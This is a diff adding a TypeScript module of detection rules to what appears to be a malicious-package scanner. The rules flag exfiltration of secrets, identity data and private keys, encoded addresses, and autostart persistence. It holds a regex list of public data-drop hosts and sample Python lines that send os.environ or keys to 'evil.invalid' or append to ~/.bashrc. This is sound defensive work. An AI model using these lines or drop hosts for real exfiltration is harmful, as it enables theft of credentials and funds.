@@ -1,0 +1,109 @@
+import { WHEN, describeLabels, isUnasked, type Combination } from './combination.js';
+import type { Label } from './value.js';
+
+const IDENTITY: readonly Label[] = ['hostname', 'username', 'directory', 'address'];
+const STOLEN: readonly Label[] = ['environment', 'secret', 'capture', 'process-output'];
+/** Hosts where anybody can collect what is sent to them. */
+const DROPS =
+  /(?:discord(?:app)?\.com\/api\/webhooks|api\.telegram\.org\/bot|hooks\.slack\.com|webhook\.site|pipedream\.net|oast\.\w+|interact\.sh|burpcollaborator|requestbin|ngrok|transfer\.sh|file\.io|gofile\.io|anonfiles|dnslog|canarytokens|beeceptor|mockapi|hookbin|ptsv\d?\.com|oastify)/i;
+
+const count = (labels: ReadonlySet<Label>, of: readonly Label[]): number =>
+  of.filter((label) => labels.has(label)).length;
+
+/** Data that leaves, and what stays behind. */
+export const EXIT_COMBINATIONS: readonly Combination[] = [
+  {
+    doc: {
+      id: 'stolen-data-sent',
+      title: 'Sends secrets, the environment or command output to a fixed address',
+      why: 'The environment of a build machine holds tokens and passwords. No package needs to send it, or your files, anywhere by itself.',
+      remedy: 'Do not install the package. If it ran somewhere, change the secrets that machine could see.',
+      example: 'requests.post("https://evil.invalid", json=dict(os.environ))',
+      technique: 'T1041',
+    },
+    judge: ({ behaviour, labels, reach, host, text }) => {
+      if (behaviour !== 'contacts' || host === undefined || count(labels, STOLEN) === 0) return undefined;
+      if (isUnasked(reach)) return 'CRITICAL';
+      if (labels.has('parameter')) return 'LOW';
+      return DROPS.test(text ?? '') ? 'CRITICAL' : 'LOW';
+    },
+    message: ({ name, reach, labels }) =>
+      `${name} sends ${describeLabels(labels)} to a fixed address ${WHEN[reach]}`,
+  },
+  {
+    doc: {
+      id: 'identity-sent',
+      title: 'Tells a fixed address who and where you are',
+      why: 'A beacon with host name, user or folder tells an attacker which organisation has just installed the package.',
+      remedy:
+        'Do not install the package; look for a private package of the same name that should have been installed.',
+      example: 'requests.get("https://evil.invalid/?h=" + socket.gethostname())',
+      technique: 'T1082',
+    },
+    judge: ({ behaviour, labels, reach, host }) => {
+      const values = count(labels, IDENTITY);
+      if (behaviour !== 'contacts' || host === undefined || values === 0) return undefined;
+      if (isUnasked(reach)) return values >= 2 ? 'CRITICAL' : 'HIGH';
+      return 'LOW';
+    },
+    message: ({ name, reach, labels }) =>
+      `${name} sends ${describeLabels(labels)} to a fixed address ${WHEN[reach]}`,
+  },
+  {
+    doc: {
+      id: 'hidden-address-contacted',
+      title: 'Contacts an address that it keeps encoded',
+      why: 'An address is only encoded so that nobody finds it by reading.',
+      remedy: 'Do not install the package.',
+      example: 'requests.get(base64.b64decode("aHR0cHM6Ly9ldmlsLmludmFsaWQ=").decode())',
+      technique: 'T1027',
+    },
+    judge: ({ behaviour, labels, reach, host }) => {
+      if (behaviour !== 'contacts' || host === undefined || !labels.has('decoded') || labels.has('parameter'))
+        return undefined;
+      return isUnasked(reach) ? 'CRITICAL' : 'LOW';
+    },
+    message: ({ name, reach }) => `${name} contacts an encoded address ${WHEN[reach]}`,
+  },
+  {
+    doc: {
+      id: 'unasked-contact',
+      title: 'Contacts a fixed address without being asked',
+      why: 'Installing or importing a package should not talk to the network: the other side learns who did, and its answer is outside any check.',
+      remedy: 'Ask the authors why; prefer a version that does not.',
+      example: 'urllib.request.urlopen("https://evil.invalid/installed")',
+      technique: 'T1071.001',
+    },
+    judge: ({ behaviour, reach, host }) =>
+      behaviour === 'contacts' && host !== undefined && isUnasked(reach) ? 'MEDIUM' : undefined,
+    message: ({ name, reach }) => `${name} contacts a fixed address ${WHEN[reach]}`,
+  },
+  {
+    doc: {
+      id: 'key-parameter-sent',
+      title: 'Sends a key that the caller hands in to a fixed address',
+      why: 'Private keys and mnemonics are used locally; whoever receives one owns the account.',
+      remedy: 'Do not use the package; move funds if a key was passed to it.',
+      example: 'def sign(private_key): requests.post("https://evil.invalid", data=private_key)',
+      technique: 'T1552',
+    },
+    judge: ({ behaviour, labels, host }) =>
+      behaviour === 'contacts' && host !== undefined && labels.has('key-parameter') ? 'HIGH' : undefined,
+    message: ({ name }) => `${name} sends a key handed in by the caller to a fixed address`,
+  },
+  {
+    doc: {
+      id: 'autostart-written',
+      title: 'Makes itself start again',
+      why: 'Entries in autostart folders, shell profiles, cron or the registry keep code running after the package is removed.',
+      remedy: 'Do not install the package; if it ran, look at the named place.',
+      example: 'open(os.path.expanduser("~/.bashrc"), "a").write(line)',
+      technique: 'T1547',
+    },
+    judge: ({ behaviour, reach }) => {
+      if (behaviour !== 'writes-autostart') return undefined;
+      return isUnasked(reach) ? 'CRITICAL' : 'LOW';
+    },
+    message: ({ name, reach }) => `${name} writes to a place that starts programs ${WHEN[reach]}`,
+  },
+];
